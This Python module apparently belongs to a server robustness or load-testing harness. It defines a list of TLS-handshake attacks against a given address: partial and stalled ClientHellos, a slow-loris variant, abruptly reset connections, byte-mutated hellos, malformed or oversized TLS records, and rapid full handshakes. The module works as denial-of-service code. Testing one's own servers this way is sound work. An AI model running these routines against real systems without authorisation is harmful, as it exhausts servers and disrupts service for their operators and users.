"""Attacks on an address with TLS: handshakes that stop, that are broken off, and that are none."""

import contextlib
import os
import random
import socket
import ssl
import time

from .connections import hold
from .wire import PREFACE, RESET_ON_CLOSE, client_hello, connect

# How many handshakes are under way at once where they are broken off.
AT_ONCE = 50


def half_hellos(address: str, seconds: float) -> str:
    """1,000 connections that send half of a ClientHello and then nothing."""
    hello = client_hello()
    return hold(address, 1000, seconds, hello[:len(hello) // 2])


def unanswered_hellos(address: str, seconds: float) -> str:
    """1,000 connections that send a ClientHello and never go on when they are answered."""
    return hold(address, 1000, seconds, client_hello())


def slow_hellos(address: str, seconds: float) -> str:
    """Slow loris: 500 connections that send a ClientHello byte by byte."""
    return hold(address, 500, seconds, b"", client_hello(), pause=0.1)


def _begun(address: str, seconds: float, first) -> str:
    """Begins many connections at once with what `first()` says, and ends them: properly, with a reset, or after the answer."""
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.ExitStack() as stack:
            for _ in range(AT_ONCE):
                with contextlib.suppress(OSError):
                    peer = stack.enter_context(connect(address))
                    peer.sendall(first())
                    if count % 3 == 1:
                        peer.setsockopt(*RESET_ON_CLOSE)
                    elif count % 3 == 2:
                        peer.shutdown(socket.SHUT_WR)
                        peer.settimeout(0.2)
                        peer.recv(1000)
                count += 1
    return f"{count} connections"


def broken_off_hellos(address: str, seconds: float) -> str:
    """A ClientHello, whole or in part, and then the end of the connection."""
    hello, dice = client_hello(), random.Random(7)
    return _begun(address, seconds, lambda: dice.choice([hello, hello, hello[:dice.randrange(len(hello))]]))


def changed_hellos(address: str, seconds: float) -> str:
    """A ClientHello with some bytes that are others."""
    hello, dice = client_hello(), random.Random(7)

    def changed() -> bytes:
        bytes = bytearray(hello)
        for _ in range(dice.choice([1, 1, 5, 50])):
            bytes[dice.randrange(len(bytes))] = dice.randrange(256)
        return bytes

    return _begun(address, seconds, changed)


def garbage_for_tls(address: str, seconds: float) -> str:
    """No TLS: bytes that are nothing, HTTP, records that say they are long, and an endless number of empty ones."""
    dice = random.Random(7)

    def nothing() -> bytes:
        return dice.choice([
            os.urandom(dice.choice([1, 5, 100, 20_000])), PREFACE, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
            b"\x16\x03\x01\xff\xff" + bytes(20_000), b"\x16\x03\x01\x40\x00\x01\xff\xff\xff" + bytes(16_380),
            b"\x16\x03\x01\x00\x00" * 4_000, b"\x15\x03\x01\x00\x02\x01\x00" * 2_000, b"\x17\x03\x03\x40\x00" + bytes(16_384)])

    return _begun(address, seconds, nothing)


def whole_handshakes(address: str, seconds: float) -> str:
    """Handshakes that are done, by clients who leave then: the dearest there is, and the client pays as much."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(address) as peer:
            peer.settimeout(1)
            with context.wrap_socket(peer, server_hostname="localhost"):
                pass
        count += 1
    return f"{count} handshakes"


ATTACKS = [
    half_hellos, unanswered_hellos, slow_hellos, broken_off_hellos, changed_hellos, garbage_for_tls, whole_handshakes]
